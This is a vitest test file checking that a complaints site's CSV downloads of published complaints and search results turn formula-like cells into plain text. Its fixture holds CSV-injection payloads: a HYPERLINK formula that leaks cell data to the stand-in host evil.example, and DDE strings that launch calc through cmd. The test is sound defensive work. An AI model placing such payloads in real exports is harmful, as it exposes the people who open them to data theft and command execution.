/**
 * CSV injection in the downloads built from stored text: the published
 * complaints (/api/complaints/published?format=csv) and search results
 * (/api/search?format=csv). Staff write the published text; a cell that
 * starts with = + - @ (or a tab or CR) must reach a spreadsheet as text.
 */
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { complaints } from '../../db/schema.ts';
import { postJson, testApi, validComplaint, type TestApi } from '../support/api.ts';
import { staffDesk } from '../support/handling.ts';

const NOW = new Date('2026-11-23T04:00:00Z');
const TEXT = {
  summary: '=HYPERLINK("http://evil.example/?"&A1,"锅炉冒黑烟详情")',
  investigation: '+1+cmd|\' /C calc\'!A0 锅炉',
  result: '@SUM(1+1)*cmd|\' /C calc\'!A0 锅炉',
  reply: '-2+3+cmd|\' /C calc\'!A0',
};

let api: TestApi;
beforeAll(async () => {
  api = await testApi({ now: () => NOW });
  const res = await postJson(api.app, '/api/complaints', validComplaint());
  const { trackingCode } = (await res.json()) as { trackingCode: string };
  await (await staffDesk(api.app, api.db)).handleAndPublish(trackingCode, TEXT);
  await api.db.update(complaints).set({ enforcement: { fineYuan: 50000, ordered: 1 } }).where(eq(complaints.trackingCode, trackingCode));
});
afterAll(() => api?.close());

const csvOf = async (path: string) => {
  const res = await api.app.request(path);
  expect(res.status).toBe(200);
  expect(res.headers.get('Content-Type')).toMatch(/^text\/csv/);
  const bytes = new Uint8Array(await res.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return parse(new TextDecoder().decode(bytes), { columns: true }) as Record<string, string>[];
};

describe('CSV downloads disarm cells that would run as formulas', () => {
  it('the published complaints: staff-written text prefixed with a quote, figures as numbers', async () => {
    const [row] = await csvOf('/api/complaints/published?format=csv');
    expect(row).toMatchObject({ 交办问题基本情况: `'${TEXT.summary}`, 调查核实情况: `'${TEXT.investigation}`, 处理和整改情况: `'${TEXT.result}` });
    expect(row!['罚款（元）']).toBe('50000');
    expect(row!['责令整改（家）']).toBe('1');
    for (const cell of Object.values(row!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // The JSON download is data, not a spreadsheet: the text as written.
    const json = (await (await api.app.request('/api/complaints/published')).json()) as { rows: Record<string, unknown>[] };
    expect(json.rows[0]).toMatchObject({ summary: TEXT.summary, investigation: TEXT.investigation, result: TEXT.result, enforcement_fineYuan: 50000 });
  });

  it('the search results: every cell, the excerpt included', async () => {
    const rows = await csvOf(`/api/search?q=${encodeURIComponent('HYPERLINK')}&format=csv`);
    expect(rows.length).toBeGreaterThan(0);
    const excerpts = rows.map((r) => r['excerpt'] ?? r['命中片段（原文）']);
    expect(excerpts.some((e) => e?.startsWith(`'=HYPERLINK`))).toBe(true);
    for (const cell of rows.flatMap((r) => Object.values(r))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
